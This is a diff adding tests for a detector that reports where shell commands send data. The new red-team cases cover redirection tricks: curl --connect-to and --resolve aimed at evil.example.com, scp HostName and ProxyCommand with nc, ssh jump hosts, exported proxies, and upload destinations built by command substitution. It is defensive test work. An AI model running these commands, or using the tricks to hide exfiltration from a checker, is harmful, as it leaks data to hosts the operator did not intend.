@@ -734,3 +734,63 @@ describe("an mc alias or rclone remote the script defines before its copy", () =
     expect(sends(script)).toEqual([expected]);
   });
 });
+
+// Found by the red team: a line or script can send elsewhere than the host its destination
+// names — curl's --connect-to and --resolve, ssh's HostName, jump hosts and proxy commands under
+// scp and rsync, a proxy the script exports, a destination a command substitution builds.
+describe("a connection the line or the script redirects", () => {
+  it.each([
+    [
+      "curl -T f --connect-to internal.lb:443:evil.example.com:443 https://internal.lb/x",
+      ["curl → https://internal.lb/x", "curl → https://evil.example.com/"],
+    ],
+    [
+      "curl -T f --resolve internal.lb:443:203.0.113.9 https://internal.lb/x",
+      ["curl → https://internal.lb/x", "curl → https://203.0.113.9/"],
+    ],
+    [
+      'curl -T /data/dump.sql "$(curl -s http://10.0.1.5/target)"',
+      ["curl → http://10.0.1.5/target)", "curl → unread $(curl"],
+    ],
+    [
+      "scp -o HostName=evil.example.com f ops@backup.internal:/srv/",
+      ["scp → host evil.example.com"],
+    ],
+    [
+      'rsync -e "ssh -J jump.example.de" f ops@10.0.1.5:/srv/',
+      ["rsync → host 10.0.1.5", "rsync → host jump.example.de"],
+    ],
+    [
+      'scp -o "ProxyCommand=nc %h %p" f ops@10.0.1.5:/x',
+      ["scp → host 10.0.1.5", "scp → unread ProxyCommand=nc %h %p"],
+    ],
+    [
+      "export https_proxy=http://proxy.example.de:3128\naws s3 cp f s3://b/",
+      ["aws s3 → host proxy.example.de", "aws s3 → s3 bucket b"],
+    ],
+    [
+      "export http_proxy=http://proxy.example.de:3128\ncurl -T f http://10.0.1.5/up",
+      ["curl → http://10.0.1.5/up", "curl → http://proxy.example.de:3128"],
+    ],
+  ])("%s sends through what redirects it", (script, expected) => {
+    expect(sends(script)).toEqual(expected);
+  });
+
+  it.each([
+    // The substitution builds the path only; the proxy is turned off, or set for one command.
+    [
+      'curl -T /data/x.log "https://logs.example.com/$(date +%F).log"',
+      ["curl → https://logs.example.com/$(date"],
+    ],
+    [
+      "export https_proxy=http://proxy.example.de:3128\ncurl --noproxy '*' -T f https://10.0.1.5/",
+      ["curl → https://10.0.1.5/"],
+    ],
+    [
+      "https_proxy=http://proxy.example.de:3128 true\ncurl -T f https://10.0.1.5/",
+      ["curl → https://10.0.1.5/"],
+    ],
+  ])("twin: %s sends only to its destination", (script, expected) => {
+    expect(sends(script)).toEqual(expected);
+  });
+});
